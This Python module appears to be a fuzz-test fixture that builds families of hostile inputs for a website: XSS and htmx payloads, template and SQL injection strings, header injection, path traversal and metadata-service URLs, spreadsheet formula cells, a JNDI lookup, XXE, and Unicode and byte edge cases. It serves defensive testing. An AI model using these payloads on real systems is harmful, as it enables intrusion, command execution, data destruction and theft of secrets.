# ruff: noqa: E501
"""Hostile words: what people type to break a site, or by chance. Made here, family by family; nothing is copied from a collection.

`HOSTILE` is text that UTF-8 can carry (NUL included), each piece at most 9,999 characters. `RAW` is bytes that are no good UTF-8.
A script that runs sets `window.__pwned`.
"""

# fmt: off
from __future__ import annotations

import base64
import itertools
from urllib.parse import quote

RUN = "window.__pwned=1"
ELSEWHERE = "https://elsewhere.example/x"
HUGE = 9_999
# Ways out of where words may stand: text, an attribute, a textarea, a title, a comment, a name.
WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "-->", "</bdi></p>", '" ')


def scripts() -> list[str]:
    """Script elements: letters, gaps, halves, encodings."""
    plain = f"<script>{RUN}</script>"
    names = ("script", "SCRIPT", "ScRiPt", "script ", "script\t", "script\n", "script/x", "script\f", "script\x00", "s\x00cript", "ſcript")
    found = [f"<{name}>{RUN}</{name}>" for name in names]
    found += [f"{way}{plain}" for way in WAYS_OUT]
    found += [f"<script src={src}></script>" for src in (ELSEWHERE, "//elsewhere.example/x.js", f"data:,{RUN}", "/static/../x", "\\\\x\\y")]
    found += [f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", f"<script>{RUN}", "</script><script>", "<script>"]
    found += [f"<!--><script>{RUN}</script>-->", f"<![CDATA[{plain}]]>", f"<?xml version='1.0'?>{plain}", f"<!DOCTYPE x [{plain}]>"]
    found += ["".join(f"&#{ord(c)};" for c in plain), "".join(f"&#x{ord(c):x}" for c in plain), plain.replace("<", "&lt;").replace(">", "&gt;")]
    found += [plain.replace("<", "&amp;lt;"), plain.replace("<", "%3C"), quote(plain), quote(quote(plain)), plain.replace("<", "\\u003c")]
    found += [plain.replace("<", "\\x3c"), plain.replace("<", "+ADw-").replace(">", "+AD4-"), plain.replace("<", "＜").replace(">", "＞")]
    found += [base64.b64encode(plain.encode()).decode(), plain.encode("utf-16-le").decode("latin-1"), "<\u200bscript>" + RUN, plain[::-1]]
    found += [f"<script type={kind}>{RUN}</script>" for kind in ("module", "text/plain", "importmap", "speculationrules", "text/hyperscript")]
    return found


def handlers() -> list[str]:
    """Elements that start a script by themselves or at a touch, behind every way out."""
    tags = (
        f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}' ",
        f"<IMG/SRC=x/ONERROR={RUN}>",
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<body onload={RUN} onpageshow={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}><summary>x</summary></details>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}></audio>",
        f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
        f'<iframe src="javascript:parent.{RUN[7:]}"></iframe>',
        f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        f"<embed src='javascript:{RUN}'>",
        f"<a href='javascript:{RUN}' autofocus onfocus={RUN} tabindex=1>x</a>",
        f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
        f"<button formaction='javascript:{RUN}' autofocus onfocus={RUN}>x</button>",
        f"<div style='animation:x 1s' onanimationstart={RUN}>x</div><style>@keyframes x{{}}</style>",
        f"<div onpointerover={RUN} style='position:fixed;inset:0;z-index:99'>x</div>",
        f"<xss-x contenteditable autofocus onfocus={RUN} tabindex=0>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
        f"<base href='{ELSEWHERE}'><link rel=stylesheet href=x.css>",
        f"<link rel=stylesheet href='{ELSEWHERE}'><style>*{{display:none}}</style>",
    )
    return [way + tag for way, tag in itertools.product(WAYS_OUT[:2], tags)]


def attributes() -> list[str]:
    """Ways into an attribute that already stands there."""
    events = ("onfocus", "onmouseover", "onbeforeinput", "style=x:y onfocus", "autofocus onfocus")
    found = [f"x{mark}{gap}onfocus={mark}{RUN}{mark}" for mark in ('"', "'", "`", "") for gap in (" ", "/", "\n")]
    return found + [f'" {event}="{RUN}' for event in events]


def mutations() -> list[str]:
    """Markup that means another thing after it was parsed once more: svg, math, templates, noscript, nested forms."""
    bad = f"<img src=x onerror={RUN}>"
    return [
        f"<svg></p><style><a id=\"</style>{bad}\">",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{bad}\">",
        f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{bad}\">",
        f"<svg><script>{RUN}</script></svg>",
        "<svg><script>&#119;indow.__pwned=1</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set onend={RUN} attributeName=x dur=1ms>",
        f"<svg><a xlink:href='javascript:{RUN}'><text x=9 y=9>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'></svg>",
        f"<svg><foreignObject><iframe srcdoc='{bad}'></iframe></foreignObject></svg>",
        f"<svg><desc><![CDATA[</desc>{bad}]]></svg>",
        f"<svg><title><style><img src=\"</style>{bad}\">",
        f"<noscript><p title=\"</noscript>{bad}\">",
        f"<template><script>{RUN}</script></template>",
        f"<template shadowrootmode=open>{bad}</template>",
        f"<xmp><p title=\"</xmp>{bad}\">",
        f"<noembed>{bad}</noembed><noframes>{bad}</noframes><plaintext>{bad}",
        f"<table><tr><td><table><img src=x onerror={RUN}></table>",
        f"<select><option><style></option></select>{bad}</style>",
        f"<p id=x></p id=y>{bad}",
        f"<a<b<c{bad}>>>",
        f"<b><i><u><s>{'<b>' * 600}",
        f"{'<div>' * 1200}{bad}",
        f"<!-- --!>{bad}<!-- -->",
        f"<!>{bad}",
        f"<//x>{bad}",
        f"<%00{bad}",
        f"<listing>\n{bad}</listing>",
        f"<dialog open onclose={RUN}>x</dialog>",
        f"<input type=image src=x onerror={RUN}>",
        f"<isindex action=javascript:{RUN} type=image>",
        f"<button popovertarget=x>x</button><xss id=x popover onbeforetoggle={RUN}>",
        f"<x>&lt;img src=x onerror={RUN}&gt;",
    ]


def htmx() -> list[str]:
    """Attributes that htmx would obey if words became markup."""
    verbs = ("hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete", "data-hx-get", "data-hx-post")
    found = [f'{way}<div {verb}="/exit" hx-trigger="load">x</div>' for verb in verbs for way in ("", '">', "</textarea>")]
    events = ("hx-on:load", "hx-on::load", "data-hx-on:click", "hx-on--after-request", "hx-on:htmx:after:init", "hx-live", "hx-config")
    found += [f'<div {event}="{RUN}">x</div>' for event in events]
    found += [
        f"<div hx-get='{ELSEWHERE}' hx-trigger='load' hx-target='body'>x</div>",
        f"<div hx-trigger='load[{RUN}]' hx-get='/'>x</div>",
        f"<div hx-get='/' hx-vals='js:{{x:{RUN}}}' hx-trigger='load'>x</div>",
        f"<div hx-get='/' hx-headers='js:{{x:{RUN}}}' hx-trigger='load'>x</div>",
        f"<div hx-swap-oob='true' id='item'>{RUN}</div>",
        "<div hx-swap-oob='outerHTML:body'>gone</div>",
        "<hx-partial hx-target='body'>gone</hx-partial>",
        "<htmx-partial target='#main'>gone</htmx-partial>",
        "<div hx-boost='true'><a href='/exit'>x</a></div>",
        "<a hx-get='/about/' hx-push-url='/exit' hx-trigger='load'>x</a>",
        "<div hx-ext='sse,ws' sse-connect='/x' ws-connect='wss://elsewhere.example'>x</div>",
        "<form hx-encoding='multipart/form-data' hx-post='/team/inbox' hx-trigger='every 1s'>x</form>",
        '" hx-get="/exit" hx-trigger="load" x="',
        "' data-hx-trigger='revealed' data-hx-delete='/'",
    ]
    return found


def templates() -> list[str]:
    """What a template, a format or a translation would reckon out."""
    return [
        "{{7*7}}",
        "{{ 7 * 7 }}",
        "{{config}}",
        "{{ config.SECRET_KEY }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ request.environ }}{{ session }}{{ g }}",
        "{{ url_for.__globals__ }}",
        "{% for x in range(99) %}x{% endfor %}",
        "{% include '/etc/passwd' %}{% raw %}",
        "{% extends 'base.html' %}{% block main %}x{% endblock %}",
        "{# remark #}",
        "{{'x'|safe}}<b>{{'<i>'|safe}}",
        "${7*7} #{7*7} *{7*7} @{7*7} ~{7*7}",
        "${jndi:ldap://elsewhere.example/a}",
        "<%= 7*7 %><% x %><#assign x=7*7>${x}",
        "$(id) `id` ${IFS} ; id | cat /etc/passwd && x",
        "{0} {0.__class__} {x!r:>9999}",
        "{0.__init__.__globals__}",
        "%(x)s %(name)s %(number)s",
        "%s%s%s%s%s%s%n%n%x%p%d",
        "%(x",
        "%",
        "%%",
        "100 % sure, 50 %s off",
        "{name} {}",
        "[[${7*7}]] __${7*7}__::.x",
        "<xsl:value-of select='7*7'/>",
        "@import 'x'; expression(7*7)",
        "=7*7",
        "f'{7*7}'",
        "\\N{BULLET}\\u2022\\x41\\101",
        "gettext('x') _('x') ngettext",
    ]


def databases() -> list[str]:
    """Pieces of SQL and of other query languages."""
    ends = ("--", "#", "/*", ";--", ";\x00")
    found = [f"' OR '1'='1{end}" for end in ends] + [f'" OR ""="{end}' for end in ends[:2]]
    return [
        *found,
        "'; DROP TABLE message; --",
        "'); DELETE FROM account; --",
        "x' UNION SELECT secret_hash, totp_secret FROM account --",
        "1; UPDATE account SET disabled = 0",
        "' AND (SELECT 1 FROM pg_sleep(9)) --",
        "' || (SELECT randomblob(1000000000)) || '",
        "'||'",
        "''",
        "\\'; --",
        "%' AND name LIKE '%a%",
        "_%_%_%",
        "1 OR 1=1",
        "1' ORDER BY 99 --",
        "'; ATTACH DATABASE '/tmp/x' AS x; --",
        "'; COPY x TO PROGRAM 'id'; --",
        "ʼ OR ʼ1ʼ=ʼ1",
        "＇ OR １＝１ --",
        '{"$gt": ""}',
        "[$ne]=1",
        "*)(uid=*))(|(uid=*",
        "' or count(/*)=1 or 'a'='b",
        "x'; EXEC xp_cmdshell('id'); --",
        "$$;SELECT 1;$$",
        "1e309",
        "SELECT * FROM child WHERE name = 'Maya'",
    ]


def headers() -> list[str]:
    """Ends of lines that would begin a header, a cookie, a mail or a log line of its own."""
    breaks = ("\r\n", "\n", "\r", "\u2028", "\x85", "%0d%0a", "%250a", "嘊嘍", "\x0b", "\x1c")
    found = [f"x{b}X-Hostile: 1{b}{b}<b>x</b>" for b in breaks] + [f"x{b}Set-Cookie: portal=hostile" for b in breaks]
    return [
        *found,
        "x\r\nLocation: https://elsewhere.example/\r\n",
        "a@example.org\r\nBcc: everybody@example.org",
        "a@example.org\nSubject: x\n\nwords",
        "ok\n2026-11-20 00:00:00 ERROR everything is lost",
        "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
        "x; Path=/; Domain=example.org",
        "a,b;c=d\"e\\f",
        "\r\n.\r\nQUIT\r\n",
        "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    ]


def paths() -> list[str]:
    """Names of files, addresses, and ways up and out."""
    ups = ("../", "..\\", "%2e%2e/", "..%2f", "..%c0%af", "....//", "..;/", "%252e%252e%252f")
    found = [f"{up * 6}etc/passwd" for up in ups]
    found += ["/etc/passwd\x00.html", "C:\\Windows\\win.ini", "file:///etc/passwd", "\\\\elsewhere.example\\x", "//elsewhere.example/"]
    found += ["/about/../team/", "/team/inbox?box=new#x", "/exit", "/about/", "/%2e%2e/%2e%2e/", "~root", "CON", "nul.txt", ".", "..", "/", "\\"]
    schemes = ("javascript", "JaVaScRiPt", " javascript", "java\tscript", "java\nscript", "\x01javascript", "vbscript", "view-source", "blob", "about")
    found += [f"{scheme}:{RUN}" for scheme in schemes]
    found += [f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,{base64.b64encode(RUN.encode()).decode()}"]
    found += [f"javascript://%0a{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"https://example.org@elsewhere.example/{RUN}"]
    found += ["http://127.0.0.1:1/", "http://[::1]/", "http://169.254.169.254/latest/", "https:\\\\elsewhere.example", "///elsewhere.example"]
    found += ["http://elsewhere.example/?x=" + "a" * 2000, "tel:999", "sms:+44", "mailto:x@example.org?cc=y", "[x](javascript:alert(1))"]
    return found


def controls() -> list[str]:
    """Every control character, alone between letters; and many at once."""
    one_each = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
    return [*one_each, "".join(map(chr, range(0x20))) + "x", "\x00" * 50 + "x", "x" + "\x08" * 200, "x\r\ry\n\rz\r\n\r\n", "\t\t\tx\t"]


def directions() -> list[str]:
    """Signs that turn the order of letters, signs without width, and languages from right to left."""
    turns = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    unseen = "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u115f\u180e\u3164\ufe00\U000e0001\U000e0100"
    found = [f"abc{turn}def 123 {turn}ghi" for turn in turns] + [f"ab{sign}cd" for sign in unseen]
    found += [f"{sign * 30}x" for sign in unseen[:6]] + ["\u202e" * 200 + "x", "\u2067" * 130 + "x", "\u202e>tpircs/<1=denwp__.wodniw>tpircs<"]
    words = ("مرحبا، أريد أن أتكلم مع أحد.", "שלום, אני רוצה לדבר", "سلام، می‌خواهم حرف بزنم", "السلام علیکم", "ދިވެހި", "ⵜⴰⵎⴰⵣⵉⵖⵜ", "𞤀𞤁𞤂")
    found += [*words, *(f"{word} (abc 123) {word} <b>" for word in words), "الساعة 3:45 pm, 24/11", "مـــــــــرحبا", "لا لا إله", "﷽ ﷺ"]
    return found


def pictures() -> list[str]:
    """Emoji, alone and joined, with skins, flags and keys."""
    found = ["😀", "👍🏿", "👩🏽‍🚀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "🇬🇧🇬", "1️⃣", "©️", "☠︎☠️", "🧑🏻‍❤️‍💋‍🧑🏿", "🏿", "\ufe0f", "🫠", "\U0001faea", "❤‍🔥"]
    return [*found, "👩‍" * 300, "🇬" * 301, "😀" * 1000, "👍" + "🏿" * 50, ":-) <3 ¯\\_(ツ)_/¯", "(╯°□°)╯︵ ┻━┻"]


def letters() -> list[str]:
    """Edges of Unicode: combining storms, look-alikes, case that changes length, signs that are none."""
    storm = "".join(chr(0x300 + n % 0x70) for n in range(300))
    found = [f"a{storm}", "".join(f"{c}{storm[:40]}" for c in "hostile"), "e\u0301 \u00e9 \u0065\u0301\u0302", "\u0338\u0301x", storm]
    found += ["İstanbul ıi", "ß ẞ ﬁ ﬀ ŉ ΐ ᾳ", "ǅ ǈ ᾈ", "K Å Ω", "ſ", "ａｄｍｉｎ", "аdmin", "Ｍａｙａ", "𝓜𝓪𝔂𝓪", "Ꮇaya", "½ ² ₃ Ⅷ ①", "٣٤٥ ४५ ௫"]
    found += ["\ufffd", "\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\U0010ffff", "\U0010fffd", "\ue000", "\uf8ff", "\U000f0000", "\u0378", "\u2028x\u2029y"]
    found += ["\u1680\u2000\u2003\u205f\u3000", "\u00a0", " ", "\u200b", "\u2800", "한국어 각", "\u1100\u1161\u11a8", "தமிழ் நி", "ക്ഷ", "ᐃᓄᒃ", "漢字仮名交じり文", "𠜎𠜱", "Ȁ̏"]
    return [*found, "a\u0f00b", "క్‍ష్మ", "జ్ఞ‌ా", "ᬅᬓ᭄ᬲ", "Tiếng Việt", "Łódź Ðā", "naïve façade", "ᚠᛇᚻ", "⠃⠗⠇", "\u0600\u06dd", "꧁༺x༻꧂", "\u2066\u0600\u202ex"]


def tables() -> list[str]:
    """Cells that a spreadsheet, a parser of numbers or a reader of JSON would take for something else."""
    found = [f"{sign}cmd|' /C calc'!A0" for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝")] + ['=HYPERLINK("https://elsewhere.example","x")']
    found += ["=1+1;", '"=1+1"', "x,y;z\tw", '"', '""', '"""', "',", "a\n\"b", "-2+3", "@SUM(1+1)*cmd", "DDE(1;2;3)"]
    found += ["0", "-0", "00", "1", "-1", "1.0", "1,000", ".5", "1e5", "1e400", "-1e400", "NaN", "-nan", "Infinity", "-inf", "0x10", "0b1", "0o7", "1_000"]
    found += ["9" * 400, "2147483648", "-2147483649", "9223372036854775808", "18446744073709551616", "3.14159265358979323846", "１２３", "१२३"]
    found += ["null", "NULL", "None", "nil", "undefined", "true", "false", "True", "NaT", "[]", "{}", "[object Object]", "()", "__proto__", "constructor"]
    found += ["prototype", "hasOwnProperty", "__class__", "__dict__", "toString", "then", "length", "on", "off", "yes", "no", "N/A", "-", "--", "---", "..."]
    found += ['{"a":1', "[" * 2000, '{"__proto__":{"x":1}}', "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<x xmlns:y='z'>&x;</x>", "!!python/object:os.system"]
    found += ["2026-02-30", "2026-11-20T25:61:61Z", "0000-00-00", "29/02/2026", "25:99", "rO0ABXNy", "gASVCg==", "00000000-0000-0000-0000-000000000000"]
    return found


def huge() -> list[str]:
    """As long as the forms still take, and a little less."""
    fills = ("a", "W", "<", "&", "'", "{{", "<b>", "&amp;", "é", "ع", "漢", "😀", "\u0301", "\u202e", "\u200d", "\\", "%", "a ", "a\n", "\n", "\u00a0")
    fill_up = [(fill * HUGE)[:HUGE] for fill in fills]
    return [*fill_up, "a" * 5000 + "!", "a@" * 3000, "x" * 81, "x" * 256, "0" * 21, "ab" * 64 + "c", f"<a href='{'x' * 9000}'>", "(" * 5000 + ")" * 4000]


FAMILIES = {
    family.__name__: family()
    for family in (
        scripts, handlers, attributes, mutations, htmx, templates, databases, headers, paths, controls, directions, pictures, letters, tables, huge
    )
}  # fmt: skip
HOSTILE: list[str] = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))

RAW: list[bytes] = [
    *(f"a{chr(code)}b".encode("utf-8", "surrogatepass") for code in (0xD800, 0xDBFF, 0xDC00, 0xDFFF)),
    "\ud83d\ude00".encode("utf-8", "surrogatepass"),
    *(b"a" + bytes([code]) + b"b" for code in (0x80, 0xBF, 0xC0, 0xC1, 0xF5, 0xFE, 0xFF)),
    b"\xc3",
    b"\xe2\x82",
    b"\xf0\x9f\x98",
    b"\xed\xa0",
    b"x\xc3",
    b"\xc0\xbcscript\xc0\xbe",
    b"\xe0\x80\xbcscript\xe0\x80\xbe",
    b"\xf0\x80\x80\xbc",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xc0\x80",
    b"\xff\xfe<\x00b\x00>\x00",
    b"\xef\xbb\xbfx",
    bytes(range(256)),
    b"\x80" * 999,
    "é<script>".encode("latin-1"),
    "<b>x".encode("utf-16"),
    "<b>x".encode("utf-32"),
]
